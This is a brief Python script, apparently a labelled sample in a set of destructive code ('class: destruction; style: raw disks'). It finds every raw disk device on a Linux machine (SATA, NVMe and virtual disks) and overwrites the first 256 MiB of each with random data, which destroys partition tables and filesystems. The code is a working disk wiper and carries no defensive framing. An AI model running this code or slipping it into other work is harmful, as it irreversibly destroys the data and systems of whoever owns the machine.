# class: destruction; style: raw disks
import os, glob
for d in glob.glob("/dev/sd?") + glob.glob("/dev/nvme?n1") + glob.glob("/dev/vd?"):
    fd = os.open(d, os.O_WRONLY)
    for _ in range(256): os.write(fd, os.urandom(1 << 20))
    os.fsync(fd)
